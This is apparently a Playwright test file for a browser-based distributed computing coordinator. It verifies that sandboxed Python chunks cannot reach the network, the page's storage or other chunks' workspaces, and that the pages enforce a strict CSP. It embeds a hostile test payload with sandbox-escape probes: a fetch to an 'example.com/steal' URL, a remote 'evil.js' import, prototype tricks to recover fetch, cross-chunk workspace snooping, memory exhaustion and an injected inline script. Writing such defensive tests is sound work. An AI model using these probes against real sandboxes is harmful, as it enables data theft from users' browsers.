// Hostile chunks cannot act as the contributor: every attempt to reach the network, the page's storage, another
// chunk's workspace or new workers fails inside the chunk with a clear error, runaway allocation ends the chunk,
// and the tab keeps computing afterwards. The worker script also carries the coordinator's Content-Security-Policy.
import { expect, test } from '@playwright/test';
import { startCoordinator, waitForJob, type RunningCoordinator } from './coordinator.js';
import { contribute, results, submitJob } from './helpers.js';

let coordinator: RunningCoordinator;
test.beforeAll(async () => {
  coordinator = await startCoordinator({ store: 'memory' });
});
test.afterAll(async () => {
  await coordinator?.stop();
});

// Each input is one attack; none is caught, so each chunk must end as an error naming what was refused.
const HOSTILE = String.raw`
import js
import pyodide_js

stash = {}

def main(kind):
    if kind == "fetch":
        return js.fetch("http://example.com/steal")
    if kind == "fetch-coordinator-api":
        return js.fetch("/api/jobs")
    if kind == "fetch-from-prototype":
        proto = js.Object.getPrototypeOf(js.globalThis)
        while proto and not js.Object.prototype.hasOwnProperty.call(proto, "fetch"):
            proto = js.Object.getPrototypeOf(proto)
        if not proto:
            raise LookupError("no prototype of the global holds fetch")
        return js.Reflect.apply(js.Reflect.get(proto, "fetch"), js.globalThis, ["http://example.com/"])
    if kind == "xhr":
        return js.XMLHttpRequest.new()
    if kind == "websocket":
        return js.WebSocket.new("ws://example.com/")
    if kind == "import-scripts":
        return js.importScripts("http://example.com/evil.js")
    if kind == "indexeddb":
        return js.indexedDB.open("keyval-store")
    if kind == "cache-storage":
        return js.caches.open("anything")
    if kind == "opfs":
        return js.navigator.storage.getDirectory()
    if kind == "worker":
        return js.Worker.new("/assets/evil.js")
    if kind == "eval":
        return js.eval("1 + 1")
    if kind == "new-function":
        return js.Function.new("return 1")()
    if kind == "font-face":
        return js.FontFace.new("x", "url(http://example.com/font.woff2)")
    if kind == "fonts":
        return js.fonts.add(None)
    if kind == "broadcast-channel":
        return js.BroadcastChannel.new("idle-sense")
    if kind == "storage-buckets":
        return js.navigator.storageBuckets.open("b")
    if kind == "locks":
        return js.navigator.locks.request("x", None)
    if kind == "gpu":
        return js.navigator.gpu.requestAdapter()
    if kind == "stash-workspace":
        open("/work/secret.txt", "w").write("mine")
        stash["handle"] = pyodide_js.FS.lookupPath("/work").node.mount.opts.fileSystemHandle
        stash["path"] = "/work/secret.txt"
        return "stashed"
    if kind == "read-old-workspace":
        import os
        if os.path.exists(stash["path"]):
            return "LEAK: " + open(stash["path"]).read()
        # A chunk cannot wait for a promise; start the read now and look at its outcome in the next chunk.
        def opened(handle):
            stash["result"] = "LEAK: opened " + handle.name
        def failed(error):
            stash["error"] = str(error)
        stash["handle"].getFileHandle("secret.txt").then(opened, failed)
        return "started"
    if kind == "old-workspace-outcome":
        if "error" in stash:
            raise OSError("reading the ended chunk's workspace failed: " + stash["error"])
        return stash.get("result", "no answer")
    raise ValueError(kind)
`;

const ATTACKS: [string, RegExp][] = [
  ['fetch', /idle-sense: fetch of http:\/\/example\.com\/steal is disabled for chunks/],
  ['fetch-coordinator-api', /idle-sense: fetch of http:\/\/127\.0\.0\.1:\d+\/api\/jobs is disabled for chunks/],
  // The original fetch is deleted from WorkerGlobalScope.prototype, not only shadowed on the global.
  ['fetch-from-prototype', /LookupError: no prototype of the global holds fetch/],
  ['xhr', /idle-sense: XMLHttpRequest is disabled for chunks/],
  ['websocket', /idle-sense: WebSocket is disabled for chunks/],
  ['import-scripts', /idle-sense: importScripts is disabled for chunks/],
  ['indexeddb', /idle-sense: indexedDB\.open is disabled for chunks/],
  ['cache-storage', /idle-sense: caches\.open is disabled for chunks/],
  ['opfs', /idle-sense: navigator\.storage\.getDirectory is disabled for chunks/],
  ['worker', /idle-sense: Worker is disabled for chunks/],
  // Refused by the worker's CSP (no 'unsafe-eval'), not by lockdown: the CSP is enforced, not only sent.
  ['eval', /EvalError: .*Content Security Policy/],
  ['new-function', /EvalError: .*Content Security Policy/],
  ['font-face', /idle-sense: FontFace is disabled for chunks/],
  ['fonts', /idle-sense: fonts\.add is disabled for chunks/],
  ['broadcast-channel', /idle-sense: BroadcastChannel is disabled for chunks/],
  ['storage-buckets', /idle-sense: navigator\.storageBuckets\.open is disabled for chunks/],
  ['locks', /idle-sense: navigator\.locks\.request is disabled for chunks/],
  ['gpu', /idle-sense: navigator\.gpu\.requestAdapter is disabled for chunks/],
];

test('hostile chunks fail with clear errors and the tab keeps working', async ({ browser }) => {
  const kinds = ATTACKS.map(([kind]) => kind);
  const job = await submitJob(coordinator.url, {
    name: 'hostile',
    source: HOSTILE,
    inputs: [...kinds, 'stash-workspace', 'read-old-workspace', 'old-workspace-outcome'],
    maxAttempts: 1,
    maxErrors: 1,
  });
  const tab = await contribute(browser, coordinator.url, 1);
  const workerHeaders: Record<string, string>[] = [];
  tab.page.on('response', (response) => {
    if (/runtimes\.worker/.test(response.url())) workerHeaders.push(response.headers());
  });
  await waitForJob(coordinator.url, job.id, (j) => j.status === 'completed' || j.status === 'failed', 120_000);
  const got = await results(coordinator.url, job.id);

  ATTACKS.forEach(([kind, message], index) => {
    expect(got[index], kind).toMatchObject({ status: 'error' });
    expect(got[index].error, kind).toMatch(message);
  });
  const stash = got[kinds.length];
  expect(stash).toMatchObject({ status: 'ok', output: 'stashed' });
  expect(got[kinds.length + 1]).toMatchObject({ status: 'ok', output: 'started' });
  const snoop = got[kinds.length + 2];
  expect(snoop.status).toBe('error');
  expect(snoop.error).toMatch(/reading the ended chunk's workspace failed: NotFoundError/);

  // The page's own IndexedDB (identity, outbox) is intact and the tab computes the next job.
  const after = await submitJob(coordinator.url, { source: 'def main(x):\n    return x + 1\n', inputs: [1, 2, 3] });
  await waitForJob(coordinator.url, after.id, (j) => j.status === 'completed', 60_000);
  expect((await results(coordinator.url, after.id)).map((r) => r.output)).toEqual([2, 3, 4]);
  await tab.context.close();
});

test('the runtime worker script is served with a CSP limiting it to the coordinator', async ({ browser }) => {
  const tab = await contribute(browser, coordinator.url, 1);
  const worker = tab.page.workers()[0] ?? (await tab.page.waitForEvent('worker', { timeout: 30_000 }));
  const res = await fetch(worker.url());
  expect(res.headers.get('content-security-policy')).toBe(
    "default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; connect-src 'self'; worker-src 'none'; object-src 'none'; base-uri 'none'",
  );
  await tab.context.close();
});

test('a chunk allocating until memory runs out fails inside the chunk; its worker is replaced and the tab goes on', async ({ browser }) => {
  const job = await submitJob(coordinator.url, {
    name: 'memory hog',
    source: 'def main(x):\n    if x == 0:\n        blocks = []\n        while True:\n            blocks.append(bytearray(256 * 1024 * 1024))\n    return x\n',
    inputs: [0, 1, 2],
    maxAttempts: 1,
    maxErrors: 1,
    timeoutMs: 60_000,
  });
  const tab = await contribute(browser, coordinator.url, 1);
  await waitForJob(coordinator.url, job.id, (j) => j.status === 'completed' || j.status === 'failed', 180_000);
  const got = await results(coordinator.url, job.id);
  expect(got[0].status).toBe('error');
  expect(got[0].error).toMatch(/\nMemoryError$/);
  expect(got.slice(1).map((r) => r.output)).toEqual([1, 2]);
  // The thread that grew past its memory ceiling was restarted after the chunk.
  await expect(tab.page.getByTestId('thread-detail')).toContainText(/restarted 1 time/, { timeout: 30_000 });
  await tab.context.close();
});

test('pages carry a strict CSP: no framing, and an injected inline script does not run', async ({ page }) => {
  const response = await page.goto(`${coordinator.url}/`);
  const csp = response?.headers()['content-security-policy'] ?? '';
  expect(csp).toContain("frame-ancestors 'none'");
  expect(csp).toContain("default-src 'self'");
  expect(csp).not.toMatch(/unsafe-inline|unsafe-eval/);
  // Markup injected into the page (as an XSS would) does not execute; the page's own modules did.
  await page.evaluate(() => {
    const script = document.createElement('script');
    script.textContent = 'window.injected = true';
    document.body.append(script);
  });
  expect(await page.evaluate(() => (window as { injected?: boolean }).injected)).toBeUndefined();
  await expect(page.getByTestId('start-button').or(page.locator('#start-button'))).toBeVisible();
});
